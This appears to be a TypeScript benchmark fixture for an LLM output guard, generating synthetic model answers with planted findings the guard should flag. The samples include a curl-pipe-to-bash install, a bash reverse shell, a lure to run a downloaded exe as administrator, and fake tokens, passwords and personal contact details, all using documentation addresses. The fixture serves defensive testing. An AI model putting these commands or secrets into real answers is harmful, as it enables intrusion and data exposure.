import { makeResponse } from '../responses.js';

/**
 * What the guard is asked to judge in the HTTP benchmark: 2 KB LLM answers (prose, lists, code
 * fences, links — bench/responses.ts), one in five carrying a planted finding of a different
 * kind each time. Synthetic but realistic; the values are documentation addresses and made-up
 * keys, never real credentials.
 */
const PLANTED = [
  'Set the token in your shell first:\n\n```bash\nexport GITHUB_TOKEN=ghp_R8x2Lq7Vn4Tz9Kd3Wb6Yc1Hf5Jm0Ps2Ga4Ue\n```',
  '```bash\ncurl -fsSL http://203.0.113.9/install.sh | bash\n```',
  'You can reach the account owner, Jane Doe, at jane.doe@contoso.com or +1 415 555 0132.',
  '```yaml\ndatabase:\n  url: postgres://app:s3cr3tPassw0rd@db.internal:5432/app\n```',
  'Download the patched build from http://198.51.100.23/files/patch.exe and run it as administrator.',
  '```bash\nbash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n```',
];

export const BODY_CHARS = 2048;

/** `count` response texts of BODY_CHARS characters; every fifth has a planted finding. */
export function guardTexts(count: number): string[] {
  return Array.from({ length: count }, (_, i) => {
    if (i % 5 !== 4) return makeResponse(1000 + i, BODY_CHARS);
    const planted = PLANTED[Math.floor(i / 5) % PLANTED.length]!;
    const base = makeResponse(1000 + i, BODY_CHARS - planted.length - 2);
    const cut = base.lastIndexOf('\n\n', Math.floor(base.length / 2));
    const at = cut > 0 ? cut : base.length;
    return `${base.slice(0, at)}\n\n${planted}${base.slice(at)}`.slice(0, BODY_CHARS);
  });
}

/** The fixed completion the local upstream returns in the proxy benchmark: one clean 2 KB answer. */
export function completionText(): string {
  return makeResponse(7, BODY_CHARS);
}

/** Splits a text the way a model streams it: about one token (a word with its leading space) per delta. */
export function tokenDeltas(text: string): string[] {
  return text.match(/\s*\S+|\s+$/g) ?? [text];
}
